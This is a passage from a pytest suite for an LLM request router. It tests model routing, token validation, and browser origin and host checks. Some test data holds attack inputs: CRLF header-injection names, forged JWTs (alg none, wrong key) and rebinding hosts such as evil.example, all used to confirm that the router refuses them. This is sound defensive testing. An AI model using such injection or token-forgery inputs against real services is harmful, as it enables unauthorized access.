  {"match": {"model": "/^x-(.*)/"}, "route": {"model": "\\\\1"}},
  {"match": {"model": "ruled"}, "route": {"upstream": "a"}}]}
"""
LISTS = {
    "a": ("both", "ruled", "q4", "q4:latest", "Cased", "tag:latest", "twin", "only-a"),
    "b": ("q4", "cased", "tag", "twin", "only-b", "Upper:latest", "ruled"),
    "d": ("hidden",),
    "e": ("twin",),
    "http://f": ("of-f",),
}
# What is asked for, the route, what is sent where.
LISTED_DECISIONS = [
    ("only-a", "model list", ["a/only-a"]),
    (
        "twin",
        "model list",
        ["b/twin", "a/twin", "e/twin"],
    ),  # the default first, then the file's order
    ("Fixed", "model list", ["c/Fixed"]),
    ("of-f", "model list", ["f/of-f"]),
    # Exactly, else with `:latest` more or less, else in any case: the first way that finds one.
    ("q4", "model list", ["b/q4", "a/q4", "c/q4"]),
    ("q4:latest", "model list", ["a/q4:latest"]),
    ("tag", "model list", ["b/tag"]),
    ("only-a:latest", "model list", ["a/only-a"]),
    ("cased", "model list", ["b/cased"]),
    ("CASED", "model list", ["b/cased", "a/Cased"]),
    ("upper", "model list", ["b/Upper:latest"]),
    ("ONLY-A:LATEST", "default", ["b/ONLY-A:LATEST"]),
    ("ONLY-A:latest", "model list", ["a/only-a"]),
    # The mapped name goes before the one that was asked for.
    ("mapped", "model list", ["a/only-a"]),
    ("only-b", "model list", ["b/only-b"]),
    ("twin-name", "model list", ["b/twin", "a/twin", "e/twin"]),
    ("mapped-to-nobody", "default", ["b/nobody"]),
    # What goes before a list.
    ("both", "alias both", ["a/aliased", "f/m"]),
    ("ruled", "routes[2]", ["a/ruled"]),
    ("twin [e]", "pin e", ["e/twin"]),
    # A rule for the model alone.
    ("old", "routes[0]", ["b/only-b"]),
    ("x-twin", "routes[1]", ["b/twin", "a/twin", "e/twin"]),
    ("x-FIXED", "routes[1]", ["c/Fixed"]),
    ("x-both", "routes[1]", ["a/aliased", "f/m"]),
    ("x-twin [e]", "pin e", ["e/x-twin"]),
    ("x-nobody", "routes[1]", ["b/nobody"]),
    ("x-", "routes[1]", ["b/x-"]),
    # Nobody has it.
    ("hidden", "default", ["b/hidden"]),
    ("nobody", "default", ["b/nobody"]),
]


def listing_table(**settings: str) -> Any:
    """Return the table of LISTED_DECISIONS."""
    names = {"mapped": "only-a", "twin-name": "twin", "mapped-to-nobody": "nobody"}
    mapping = json.dumps({**names, "only-b": "no-such-model"})
    return routing(LISTING_TABLE, **{"DEFAULT_UPSTREAM": "b", "MODEL_MAP": mapping, **settings})


def catalogue_of(table: Any, lists: Mapping[str, Sequence[str]] = LISTS) -> Any:
    """Return what these servers list, by their names or URLs."""
    listed = {
        smolrouter.own_list_key(server): smolrouter.index_names(lists[key])
        for server in table.all_servers()
        for key in (server.name, str(server.url))
        if key in lists
    }
    return smolrouter.Catalogue(listed, {})


@pytest.mark.parametrize("asked, route, instances", LISTED_DECISIONS)
def test_decision_by_list(asked: str, route: str, instances: list[str]) -> None:
    table = listing_table()
    decision = smolrouter.resolve(table, asked, HOME, catalogue_of(table))
    assert decision.route == route
    assert [str(instance) for instance in decision.instances] == instances
    assert decision.trail[-1].matched
    assert decision.requested_model == asked
    if decision.found_by == "model list":
        words = decision.trail[-1].why
        assert all(f"{i.server.name} lists {i.model!r}" in words for i in decision.instances)


def test_no_decision_by_list_where_that_is_not_wanted() -> None:
    table = listing_table(ROUTE_BY_MODEL="false")
    decision = smolrouter.resolve(table, "only-a", HOME, catalogue_of(table))
    assert (decision.route, len(decision.trail)) == ("default", 4)
    decision = smolrouter.resolve(table, "old", HOME, catalogue_of(table))
    assert (decision.route, *map(str, decision.instances)) == ("routes[0]", "b/only-b")
    table = listing_table(DEFAULT_UPSTREAM="none")
    for asked, route in (("nobody", "none"), ("x-nobody", "routes[1]")):
        decision = smolrouter.resolve(table, asked, HOME, catalogue_of(table))
        assert (decision.route, decision.found_by) == (route, "none")
        assert decision.instances == () and not decision.trail[-1].matched


def test_decisions_are_remembered_until_a_list_changes() -> None:
    table = listing_table()
    first, second = catalogue_of(table), catalogue_of(table, {"e": ("only-a",)})
    found = smolrouter.decide(table, "only-a", HOME, first)
    assert smolrouter.decide(table, "only-a", HOME, first) is found
    assert str(smolrouter.decide(table, "only-a", HOME, second).instances[0]) == "e/only-a"
    told = smolrouter.tell_ages(found, (61,))
    assert told.trail == (*found.trail[:-1], ("model list", True, "a lists 'only-a' (61 s ago)"))


# --- names that break no head ---------------------------------------------------------


@pytest.mark.parametrize("server", [
    {"headers": {"X-A": "b\r\nEvil: 1"}}, {"headers": {"X-A\r\nEvil": "1"}},
    {"headers": {"X A": "1"}}, {"headers": {"": "1"}}, {"headers": {"X-A": "b\0"}},
    {"headers": {"Content-Length": "1"}}, {"headers": {"transfer-encoding": "chunked"}},
    {"headers": {"Connection": "close"}}, {"api_key": "a\r\nEvil: 1"}, {"api_key": "a\n"},
])  # fmt: skip
def test_the_routing_file_cannot_break_a_head(server: dict[str, Any]) -> None:
    text = json.dumps({"servers": {"a": {"url": "http://a", **server}}})
    with pytest.raises(smolrouter.ConfigError, match=r"servers\.a"):
        routing(text)


def test_names_of_the_routing_file_break_no_head() -> None:
    odd = "two\r\nEvil: 1\nlines \u00e9\0"
    routes = {
        "servers": {odd: default_upstream().url},
        "aliases": {odd: {"instances": [{"server": odd, "model": "tiny\r\nEvil: 1"}]}},
    }
    got = post_chat(shared_router({"DEFAULT_UPSTREAM": default_upstream().url}, routes), odd)
    assert (got.status, got.get("Evil")) == (200, None)
    assert "Evil: 1" in got.get("X-SmolRouter-Model")


NAMES = [
    "a\r\nEvil: 1", "a\nEvil: 2", "a\0b", "\u6a21\u578b", "\xe9", "\ud800", "x" * 999,
]  # fmt: skip


@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
@pytest.mark.parametrize("model", NAMES, ids=lambda name: ascii(name[:9]))
def test_a_model_name_breaks_neither_a_head_nor_the_log(model: str, path: str) -> None:
    name = f"{model}{path}"
    got = request(default_router().port, "POST", path, {**EXAMPLE_REQUESTS[path], "model": name})
    assert (got.status, got.get("Evil")) == (200, None)
    assert len([r for r in default_upstream().requests if r.model == name]) == 1
    assert request(default_router().port, "GET", "/v1/fine").status == 200
    assert "\nEvil" not in default_router().stderr.replace("\r", "\n")


def test_no_name_is_long_enough_to_fill_the_log() -> None:
    for path, form in ((CHAT, False), ("/api/chat", False), ("/v1/audio/transcriptions", True)):
        name = "long" * 4097
        kind = "application/json"
        body = encode_json({**EXAMPLE_REQUESTS.get(path, {}), "model": name})
        if form:
            kind = "multipart/form-data; boundary=b"
            body = f'--b\r\nContent-Disposition: form-data; name="model"\r\n\r\n{name}\r\n--b--'
            body = body.encode()
        got = request(default_router().port, "POST", path, body, [("Content-Type", kind)])
        assert got.status == 400 and b"16384 are allowed" in got.content
        assert not default_upstream().requests_for(name)


# --- what hypothesis finds ------------------------------------------------------------


@fuzz(
    lambda st: {
        "table": st.fixed_dictionaries(
            {},
            optional={
                key: json_values(st)
                | st.lists(
                    st.fixed_dictionaries(
                        {}, optional={name: json_values(st) for name in ("match", "route")}
                    ),
                    max_size=2,
                )
                | st.dictionaries(
                    st.text(max_size=3),
                    st.fixed_dictionaries(
                        {},
                        optional={
                            name: json_values(st)
                            for name in ("url", "instances", "strategy", "api")
                        },
                    ),
                    max_size=2,
                )
                for key in ("servers", "aliases", "routes")
            },
        )
    }
)
def test_fuzz_routing_file(table: dict) -> None:
    """A routing file is a table, or its error says where."""
    with contextlib.suppress(smolrouter.ConfigError):
        found = routing(json.dumps(table))
        assert smolrouter.resolve(found, "a", "10.0.0.1").instances


@fuzz(lambda st: {"text": st.text(max_size=60)})
def test_fuzz_routing_text(text: str) -> None:
    for given in (text, "{" + text, "servers:\n  " + text):
        with contextlib.suppress(smolrouter.ConfigError):
            routing(given)


# ======================================================================================
# 10  Access
# ======================================================================================
# Who may do what: tokens, policies, Host and Origin; a real browser, and proxies in front. Every
# endpoint of ENDPOINTS is asked under every policy, so a new one needs nothing here.

# --- on values ------------------------------------------------------------------------


def jwt(head: dict, claims: dict, key: str = SECRET_KEY) -> str:
    """Make a token by other means than the module's own."""
    parts = [base64.urlsafe_b64encode(encode_json(p)).rstrip(b"=") for p in (head, claims)]
    signed = b".".join(parts)
    mac = hmac.new(key.encode(), signed, hashlib.sha256).digest()
    return (signed + b"." + base64.urlsafe_b64encode(mac).rstrip(b"=")).decode()


HS256 = {"alg": "HS256", "typ": "JWT"}
TOKENS = {
    "good": (jwt(HS256, {"exp": 2000}), True),
    "good with nbf": (jwt(HS256, {"exp": 2000, "nbf": 900}), True),
    "expired": (jwt(HS256, {"exp": 1000}), False),
    "not yet": (jwt(HS256, {"exp": 2000, "nbf": 1001}), False),
    "no exp": (jwt(HS256, {"sub": "x"}), False),
    "exp a string": (jwt(HS256, {"exp": "2000"}), False),
    "exp true": (jwt(HS256, {"exp": True}), False),
    "alg none": (jwt({"alg": "none"}, {"exp": 2000}), False),
    "alg HS512": (jwt({"alg": "HS512"}, {"exp": 2000}), False),
    "crit": (jwt({**HS256, "crit": ["x"]}, {"exp": 2000}), False),
    "other key": (jwt(HS256, {"exp": 2000}, "x" * 40), False),
    "no signature": (jwt(HS256, {"exp": 2000}).rpartition(".")[0] + ".", False),
    "exp infinite": (jwt(HS256, {"exp": math.inf}), False),
    "exp not a number": (jwt(HS256, {"exp": math.nan}), False),
    "exp of 400 digits": (jwt(HS256, {"exp": 10**400}), False),
    "nbf minus infinity": (jwt(HS256, {"exp": 2000, "nbf": -math.inf}), False),
    "nbf of 400 digits": (jwt(HS256, {"exp": 2000, "nbf": -(10**400)}), False),
    "infinity elsewhere": (jwt(HS256, {"exp": 2000, "x": math.inf}), False),
    "infinity in the head": (jwt({**HS256, "x": -math.inf}, {"exp": 2000}), False),
    "all scopes": (jwt(HS256, {"exp": 2000, "jti": "x", "models": [], "rate": "1/d"}), True),
    "unlimited": (jwt(HS256, {"exp": 2000, "jti": "", "api_only": False}), True),
    "two parts": ("a.b", False),
    "not base64": ("!.!.!", False),
    "empty": ("", False),
}


# Claims that cannot be read, which may have been meant as limits.
WRONG_CLAIMS: dict[str, list[Any]] = {
    "models": ["llama*", None, {"llama*": True}, [1], ["a", None], True],
    "rate": ["60", 60, "60/min", "0/m", "-1/m", "1e3/m", "", None, "60/m ", "٦/m"],
    "api_only": ["true", 1, None],
    "jti": [7, None, ["x"]],
    "sub": [7, None, {}],
}


def is_valid_token(token: str, now: float) -> bool:
    """Tell whether a token opens anything."""
    with contextlib.suppress(smolrouter.Unauthorized):
        return smolrouter.find_valid([token], SECRET_KEY, (), now)[0] is not None
    return False


@pytest.mark.parametrize("token, valid", TOKENS.values(), ids=TOKENS.keys())
def test_token(token: str, valid: bool) -> None:
    assert is_valid_token(token, 1000.0) == valid


def test_a_token_with_a_claim_of_the_wrong_type_is_refused() -> None:
    for name, values in WRONG_CLAIMS.items():
        for value in values:
            token = jwt(HS256, {"exp": 2000, name: value})
            with pytest.raises(smolrouter.Unauthorized, match=f"no valid `{name}`"):
                smolrouter.find_valid([token], SECRET_KEY, (), 1000.0)


@pytest.mark.parametrize("exp", (10**400, math.inf, math.nan, 1e300))
def test_a_token_without_a_moment_as_its_end_signs_nobody_in(exp: float) -> None:
    token = jwt(HS256, {"exp": exp}, SECRET)
    router = shared_router({"JWT_SECRET": SECRET, "WEBUI_SECURITY": "ALWAYS_AUTH"})
    signin = request(router.port, "POST", "/api/signin", {"token": token})
    bearer = request(router.port, "GET", "/api/logs", None, [("Authorization", f"Bearer {token}")])
    assert (signin.status, bearer.status) == (401, 401)
    assert "Traceback" not in router.stderr


def test_minted_token_is_valid_until_it_expires() -> None:
    token = smolrouter.encode_token(SECRET_KEY, "me", 1000.0, 1.0)
    assert is_valid_token(token, 1000.0)
    assert not is_valid_token(token, 1000.0 + 86401)


GLOBS = [
    # globs, the name that is asked for, whether the token is good for it
    (["llama*"], "llama3:70b", True),
    (["llama*"], "my-llama3", False),
    (["llama*"], "Llama3", False),
    (["*"], "anything/at-all", True),
    (["*"], "", False),
    ([], "llama3", False),
    (["qwen?", "coder"], "coder", True),
    (["qwen?", "coder"], "qwen33", False),
    (["coder"], "coder:latest", True),
    # a pin counts by the name before its bracket, where there is such a server
    (["coder"], "coder [gpu]", True),
    (["coder"], "coder [gpu]:latest", True),
    (["coder"], "coder [[::1]:8000]", True),
    (["coder"], "coder [other]", False),
    (["coder"], "secret [gpu]", False),
    (["*gpu?"], "secret [gpu]", False),
    # an alias of that name goes before a pin
    (["both"], "both [gpu]", False),
    (["both*"], "both [gpu]", True),
]


@pytest.mark.parametrize("globs, model, good", GLOBS)
def test_models_of_a_token(globs: list[str], model: str, good: bool) -> None:
    routes = {
        "servers": {"gpu": "http://gpu:1", "[::1]:8000": "http://[::1]:8000"},
        "aliases": {"both [gpu]": {"instances": ["gpu/secret"]}},
    }
    table = smolrouter.parse_routes(json.dumps(routes), "", {}, smolrouter.Settings())
    claims = {"exp": 2000, "models": globs}
    token = smolrouter.parse_claims(claims, "")
    assert smolrouter.may_use(token, model, table) == good
    assert smolrouter.may_use(None, model, table)


def test_rate_counts_in_windows() -> None:
    guard = smolrouter.TokenGuard(SECRET_KEY, smolrouter.Limits(counted_tokens=2))
    one, two, three = (
        smolrouter.parse_claims({"exp": 2000, "jti": name, "rate": "2/m"}, "") for name in "abc"
    )

    def let_in(token: Any, *moments: float) -> list[int]:
        """Return for each moment how many seconds to wait; 0: the request is let in."""
        waits = []
        for moment in moments:
            try:
                guard.count_request(token, moment)
                waits.append(0)
            except smolrouter.RateExceeded as error:
                waits.append(int(dict(error.fields)["Retry-After"]))
        return waits

    assert let_in(one, 100.0, 101.0, 101.5, 130.0, 159.9) == [0, 0, 59, 30, 1]
    # What was refused does not count for the next minute; each token has its own count.
    assert let_in(two, 159.0, 159.0, 159.0) == [0, 0, 60]
    assert let_in(one, 160.0, 219.0, 219.5, 221.0) == [0, 0, 1, 0]
    # The table is bounded: the token that was used least recently is forgotten.
    assert let_in(three, 221.0) == [0]
    assert sorted(guard.requests) == ["a", "c"]


HOSTS = [
    ("localhost:1234", True), ("127.0.0.1", True), ("[::1]:1234", True), ("box", True),
    ("box.lan:80", True), ("router.home.arpa", True), ("extra.example", True),
    ("evil.example", False), ("127.0.0.1.evil.example", False), ("", False),
    ("localhost.evil.example:1234", False),
]  # fmt: skip


@pytest.mark.parametrize("host, good", HOSTS)
def test_web_host(host: str, good: bool) -> None:
    assert smolrouter.is_web_host(host, ("extra.example",), "machine") == good


BOX = "mybox.lan:1234"
EVIL_PAGE = "https://evil.example"
LINK = {"Sec-Fetch-Dest": "document"}
CROSS = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
SHELL = {"User-Agent": "Mozilla/5.0 (Windows NT 10.0) PowerShell/7.4.0"}
BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept-Language": "en"}
PAGES = [
    # Host, fields, ALLOWED_ORIGINS, status at the Web UI, status at the model API
    (BOX, {}, "loopback", 200, 200),
    (BOX, {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
    (BOX, {"Origin": f"https://{BOX}"}, "loopback", 200, 200),
    (BOX.upper(), {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
    ("extra.example", {"Origin": "https://extra.example"}, "loopback", 200, 200),
    ("[::1]:1234", {"Origin": "http://[::1]:1234"}, "", 200, 200),
    ("mybox.lan:443", {"Origin": "https://mybox.lan"}, "loopback", 200, 200),
    ("mybox.lan:80", {"Origin": "http://mybox.lan"}, "loopback", 200, 200),
    ("mybox.lan:443", {"Origin": "http://mybox.lan"}, "loopback", 403, 403),
    (BOX, {"Origin": "http://mybox.lan"}, "loopback", 403, 403),  # another port
    (BOX, {"Origin": "ftp://mybox.lan:1234"}, "loopback", 403, 403),
    (BOX, {"Origin": f"http://{BOX}.evil.example"}, "loopback", 403, 403),
    (BOX, {"Origin": EVIL_PAGE}, "loopback", 403, 403),
    (BOX, {"Origin": "null"}, "loopback", 403, 403),
    (BOX, {"Origin": ""}, "loopback", 403, 403),
    (BOX, {"Origin": "null"}, "null", 200, 200),
    (BOX, {"Origin": EVIL_PAGE}, "*", 403, 200),
    (BOX, {"Origin": EVIL_PAGE}, "https://evil.example", 200, 200),
    (BOX, {"Origin": EVIL_PAGE + ":8443"}, "https://evil.example", 403, 403),
    (BOX, {"Origin": "http://localhost:3000"}, "loopback", 403, 200),
    (BOX, {"Origin": "http://127.8.8.8"}, "loopback", 403, 200),
    (BOX, {"Origin": "http://localhost.evil.example"}, "loopback", 403, 403),
    (BOX, {"Origin": "http://127.0.0.1.evil.example"}, "loopback", 403, 403),
    (BOX, {"Origin": "file://localhost"}, "loopback", 403, 403),
    (BOX, {"Origin": "app://obsidian.md"}, "loopback", 403, 403),
    (BOX, {"Origin": "app://obsidian.md"}, "app:", 403, 200),
    (BOX, {"Origin": "APP://obsidian.md"}, "loopback App:", 403, 200),
    (BOX, {"Origin": "app://obsidian.md"}, "app://obsidian.md", 200, 200),
    (BOX, {"Origin": "tauri://localhost"}, "app:, tauri:", 403, 200),
    (BOX, {"Origin": "vscode-webview://1f2e"}, "vscode-webview:", 403, 200),
    (BOX, {"Origin": "application://x"}, "app:", 403, 403),
    (BOX, {"Origin": "https://app"}, "app:", 403, 403),
    (BOX, CROSS, "loopback", 403, 403),
    (BOX, {**CROSS, "Sec-Fetch-Dest": "iframe"}, "loopback", 403, 403),
    (BOX, {**CROSS, **LINK}, "loopback", 200, 200),
    (BOX, {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "image"}, "loopback", 403, 403),
    (BOX, {"Sec-Fetch-Site": "same-origin"}, "loopback", 200, 200),
    (BOX, {"Sec-Fetch-Site": "none"}, "loopback", 200, 200),
    # names that may have been rebound to this address
    ("evil.example:1234", {}, "loopback", 421, 200),
    ("evil.example:1234", BROWSER, "loopback", 421, 421),
    ("models.example.com", SHELL, "loopback", 421, 200),
    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "loopback", 421, 403),
    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "*", 421, 200),
    ("evil.example", {"Sec-Fetch-Site": "same-origin"}, "*", 421, 421),
    ("mybox.lan.evil.example", BROWSER, "loopback", 421, 421),
    ("192.168.1.5.evil.example", BROWSER, "loopback", 421, 421),
]


@pytest.mark.parametrize("host, given, origins, webui, api", PAGES)
def test_page_from_elsewhere(
    host: str, given: dict[str, str], origins: str, webui: int, api: int
) -> None:
    fields = smolrouter.Fields([(n.lower(), n, v) for n, v in given.items()])
    settings = smolrouter.Settings.from_mapping(
        {"ALLOWED_HOSTS": "extra.example", "ALLOWED_ORIGINS": origins}
    )
    rules = smolrouter.BrowserRules(settings.allowed_hosts, settings.allowed_origins, "machine")
    for guarded, wanted in ((True, webui), (False, api)):
        try:
            extra = smolrouter.check_browser(fields, host, guarded, rules)
            status = 200
            origin = given.get("Origin")
            assert dict(extra).get("Access-Control-Allow-Origin") == origin
        except smolrouter.RouterError as error:
            status = error.status
        assert status == wanted, guarded


@pytest.mark.parametrize(
    "path, origin, added",
    (
        (CHAT, "app://obsidian.md", "app:"),
        (CHAT, "vscode-webview://0a1b", "vscode-webview:"),
        (CHAT, "https://chat.example", "https://chat.example"),
        ("/api/logs", "app://obsidian.md", "app://obsidian.md"),
    ),
)
def test_a_refused_origin_learns_what_to_add(path: str, origin: str, added: str) -> None:
    """The value in the message, put where the message says, lets the same page in."""
    got = request(default_router().port, "POST", path, {}, [("Origin", origin)])
    assert got.status == 403
    assert f"add {added} to ALLOWED_ORIGINS" in got.content.decode()
    allowed = smolrouter.parse_origins(added)
    assert smolrouter.origin_allowed(origin, allowed, path == "/api/logs")


COOKIES = [
    ("smolrouter_token=x", None),
    ("a=b; smolrouter_token=x; c=d", "a=b; c=d"),
    ("smolrouter_token =x", None),
    ("a=smolrouter_token=x", "a=smolrouter_token=x"),
    ("xsmolrouter_token=x", "xsmolrouter_token=x"),
]


@pytest.mark.parametrize("sent, kept", COOKIES)
def test_token_cookie_stays_here(sent: str, kept: str | None) -> None:
    fields = smolrouter.Fields([("cookie", "Cookie", sent), ("a", "A", "b")])
    left = smolrouter.without_tokens(fields, SECRET_KEY)
    assert (left.get("cookie"), left.get("a")) == (kept, "b")


FORWARDED = [
    # peer, X-Forwarded-For, trusted, who asks
    ("10.0.0.1", "1.2.3.4", "none", "10.0.0.1"),
    ("10.0.0.1", "1.2.3.4", "10.0.0.1", "1.2.3.4"),
    ("10.0.0.1", "6.6.6.6, 1.2.3.4", "10.0.0.0/8", "1.2.3.4"),
    ("10.0.0.1", "1.2.3.4, 10.0.0.7", "10.0.0.0/8", "1.2.3.4"),
    ("10.0.0.1", "junk", "10.0.0.0/8", "10.0.0.1"),
    ("10.0.0.1", "", "10.0.0.0/8", "10.0.0.1"),
    ("10.0.0.1", "fe80::1%" + "z" * 9000, "10.0.0.0/8", "fe80::1"),
]


@pytest.mark.parametrize("peer, field, trusted, source", FORWARDED)
def test_source_host(peer: str, field: str, trusted: str, source: str) -> None:
    fields = smolrouter.Fields([("x-forwarded-for", "X-Forwarded-For", field)])
    networks = smolrouter.parse_networks(trusted)
    assert smolrouter.client_address(peer, fields, networks) == source


@fuzz(
    lambda st: {"at": st.integers(0, 400), "by": st.binary(max_size=3), "size": st.integers(0, 3)}
)
def test_fuzz_tokens(at: int, by: bytes, size: int) -> None:
    """Whatever is changed in a token, it is not valid any more."""
    good = smolrouter.encode_token(SECRET_KEY, "me", 1000.0, 1.0)
    bad = good[:at] + by.decode("latin-1") + good[at + size :]
    assert is_valid_token(bad, 1000.0) == (bad == good)


@fuzz(lambda st: {"doc": json_values(st), "claims": json_values(st)})
def test_fuzz_claims(doc: Any, claims: Any) -> None:
    """Signed nonsense is no token."""
    for head, body in ((doc, claims), (HS256, claims), (HS256, {"exp": claims, "nbf": doc})):
        with contextlib.suppress(UnicodeEncodeError):
            assert not is_valid_token(jwt(head, body), float("inf"))


@fuzz(lambda st: {"text": st.text(max_size=30)})
def test_fuzz_small_readers(text: str) -> None:
    """Each reader of one value returns it or raises its own error."""
    for item in dataclasses.fields(smolrouter.Settings):
        with contextlib.suppress(ValueError):
            item.metadata["parse"](text)
    latin = text.encode("utf-8", "replace").decode("latin-1")
    lines = [
        (n, n, latin)
        for n in ("origin", "cookie", "authorization", "x-forwarded-for", "host", "connection")
    ]
    fields = smolrouter.Fields(lines)
    smolrouter.parse_retry_after(text, 0.0)
    smolrouter.find_tokens(fields, True)
    smolrouter.without_tokens(fields, SECRET_KEY)
    with contextlib.suppress(ValueError):
        smolrouter.parse_globs(text)
    with contextlib.suppress(ValueError):
        assert str(smolrouter.parse_rate(text)) == text
    networks = smolrouter.parse_networks("0.0.0.0/0 ::/0")
    assert smolrouter.is_address(smolrouter.client_address("10.0.0.1", fields, networks))
    with contextlib.suppress(smolrouter.RouterError):
        rules = smolrouter.BrowserRules((), ("loopback",), "machine")
        smolrouter.check_browser(fields, latin, True, rules)
    value = smolrouter.encode_field_value(text)
    assert value.isascii() and value.isprintable()


# --- policies and tokens --------------------------------------------------------------

PAST = 1_000_000_000
AHEAD = 32_503_680_000
BY_PROXY = ("X-Forwarded-For", "203.0.113.9")
# What a client may send as its token, by what is wrong with it.
CARRIED: dict[str, str] = {
    "none": "",
    "bad": jwt(HS256, {"exp": AHEAD}, "another key, as long as it should be"),
    "expired": jwt(HS256, {"exp": PAST}, SECRET),
    "wrong alg": jwt({"alg": "none"}, {"exp": AHEAD}, SECRET),
    "good": jwt(HS256, {"exp": AHEAD}, SECRET),
}
GOOD_TOKEN = CARRIED["good"]
POLICIES = [(name, secret) for name in smolrouter.POLICIES for secret in (SECRET, "")]
# Without a secret the router does not start with this policy.
POLICIES.remove(("ALWAYS_AUTH", ""))


def router_with_policy(policy: str, secret: str = SECRET, **more: Any) -> Router:
    """Return a shared router with this policy for the Web UI and for the API."""
    settings = {"WEBUI_SECURITY": policy, "API_SECURITY": policy, **more}
    if secret:
        settings["JWT_SECRET"] = secret
    return shared_router(
        {"DEFAULT_UPSTREAM": default_upstream().url, "LOG_LEVEL": "ERROR", **settings}
    )


def example_of(endpoint: Any) -> tuple[str, str]:
    """Return a method and a path that this endpoint serves."""
    path = endpoint.paths.split()[0].replace("**", "access").replace("*", "access")
    # A GET of the events would have no end.
    method = "HEAD" if path == "/api/events" else endpoint.methods.split()[0]
    return method, path


NUMBERS = itertools.count(2)


def another_address() -> str:
    """Return a loopback address from which no token has failed yet."""
    return "127.77.{}.{}".format(*divmod(next(NUMBERS), 250))


def statuses(router: Router, *asked: tuple[str, str, Pairs]) -> list[int]:
    """Send requests on one connection, from an address of its own, and return their statuses."""
    found = []
    source = another_address()
    with contextlib.ExitStack() as stack:
        sock = None
        for method, path, fields in asked:
            sock = sock or stack.enter_context(
                socket.create_connection(("127.0.0.1", router.port), PATIENCE, (source, 0))
            )
            sized = [("Content-Length", "2")] if method == "POST" else []
            lines = [f"{n}: {v}\r\n" for n, v in (("Host", "router"), *sized, *fields)]
            top = f"{method} {path} HTTP/1.1\r\n{''.join(lines)}\r\n".encode()
            sock.sendall(top + b"{}" * bool(sized))
            data = read_until(sock, b"\r\n\r\n")
            found.append(int(data.split()[1]))
            if b"\r\nTransfer-Encoding: chunked\r\n" in data:
                # This answer may have no end; the next request gets a connection of its own.
                sock = None
                continue
            rest = 0 if method == "HEAD" else parse_response(data, True).get("Content-Length") or 0
            rest = int(rest) - len(data.partition(b"\r\n\r\n")[2])
            while rest > 0:
                rest -= len(sock.recv(rest))
    return found


def wanted_status(guard: str, policy: str, secret: str, token: str, proxied: bool) -> int:
    """Return the status that the policies want; 200 stands for being let in."""
    open_to_all = guard not in ("api_security", "webui_security") or policy == "NONE"
    if open_to_all or (policy == "AUTH_WHEN_PROXIED" and not proxied):
        return 200
    if not secret:
        return 403
    return 200 if token == "good" else 401


@pytest.mark.parametrize("policy, secret", POLICIES)
def test_every_endpoint_in_every_mode(policy: str, secret: str) -> None:
    router = router_with_policy(policy, secret)
    for endpoint in smolrouter.ENDPOINTS:
        method, path = example_of(endpoint)
        chosen = [("Accept", endpoint.accept), ("Upgrade", endpoint.upgrade)]
        chosen = [(name, value) for name, value in chosen if value]
        for proxied in (False, True):
            asked = []
            for text in CARRIED.values():
                token = [("Authorization", f"Bearer {text}")] if text else []
                proxy = [BY_PROXY] if proxied else []
                asked.append((method, path, [*token, *proxy, *chosen]))
            before = sum(r.target == path for r in default_upstream().requests)
            got = statuses(router, *asked)
            got = [s if s in (401, 403) else 200 for s in got]
            rest = (endpoint.guard, policy, secret)
            assert got == [wanted_status(*rest, name, proxied) for name in CARRIED], path
            # What was refused has reached no upstream.
            if path == "/v1/access":
                after = sum(r.target == path for r in default_upstream().requests)
                assert after - before == got.count(200)


@pytest.mark.parametrize("name", [
    "Forwarded", "Via", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Whatever",
    "X-Real-IP", "X-Original-Forwarded-For", "CF-Connecting-IP", "CF-Ray", "True-Client-IP",
])  # fmt: skip
def test_every_proxy_field_counts(name: str) -> None:
    router = router_with_policy("AUTH_WHEN_PROXIED")
    ways: list[Pairs] = [
        [(name, "1.1 a")], [(name.upper(), "")], [("Connection", f"close, {name.lower()}")],
        [("Connection", name), (name, "1.1 a")],
    ]  # fmt: skip
    for fields in ways:
        assert statuses(router, ("GET", "/v1/models", fields)) == [401]
    assert statuses(router, ("GET", "/v1/models", [("X-Forward", "x")])) == [200]


CARRIERS = [
    # fields, status at the Web UI, status at the model API
    ([("X-SmolRouter-Token", GOOD_TOKEN)], 200, 200),
    ([("authorization", f"bearer  {GOOD_TOKEN} ")], 200, 200),
    ([("Authorization", "Bearer sk-other"), ("X-SmolRouter-Token", GOOD_TOKEN)], 200, 200),
    ([("x-api-key", GOOD_TOKEN)], 200, 200),
    ([("X-Api-Key", GOOD_TOKEN), ("Authorization", "Bearer sk-other")], 200, 200),
    ([("x-api-key", "sk-other")], 401, 401),
    ([("x-api-key", f"Bearer {GOOD_TOKEN}")], 401, 401),
    ([("Authorization", f"Basic {GOOD_TOKEN}")], 401, 401),
    ([("Authorization", GOOD_TOKEN)], 401, 401),
    ([("Cookie", f"smolrouter_token={GOOD_TOKEN}")], 200, 401),
    (
        [("Cookie", f"a=b; smolrouter_token={GOOD_TOKEN}"), ("Sec-Fetch-Site", "same-origin")],
        200,
        200,
    ),
    ([("Cookie", f"smolrouter_token={GOOD_TOKEN}"), ("Origin", "http://router")], 200, 200),
    ([("Cookie", f"smolrouter_token={GOOD_TOKEN}"), ("Origin", "http://localhost:9")], 403, 401),
    ([("Cookie", f"smolrouter_token={GOOD_TOKEN}"), ("Sec-Fetch-Site", "same-site")], 403, 403),
    ([("Cookie", f"token={GOOD_TOKEN}")], 401, 401),
    ([("Cookie", f"smolrouter_token={CARRIED['expired']}")], 401, 401),
]


@pytest.mark.parametrize("fields, webui, api", CARRIERS)
def test_where_a_token_may_stand(fields: Pairs, webui: int, api: int) -> None:
    asked = [("GET", "/api/inflight", fields), ("GET", "/v1/models", fields)]
    assert statuses(router_with_policy("ALWAYS_AUTH"), *asked) == [webui, api]


def test_a_token_never_travels_upstream() -> None:
    for fields in (
        [("Authorization", f"Bearer {GOOD_TOKEN}")],
        [("X-SmolRouter-Token", GOOD_TOKEN), ("Authorization", "Bearer sk-theirs")],
        [
            ("Authorization", f"Bearer {GOOD_TOKEN}"),
            ("Cookie", f"a=b; smolrouter_token={GOOD_TOKEN}"),
        ],
        [("X-Api-Key", GOOD_TOKEN), ("Authorization", "Bearer sk-theirs")],
        [("X-SmolRouter-Token", GOOD_TOKEN), ("x-api-key", "sk-theirs")],
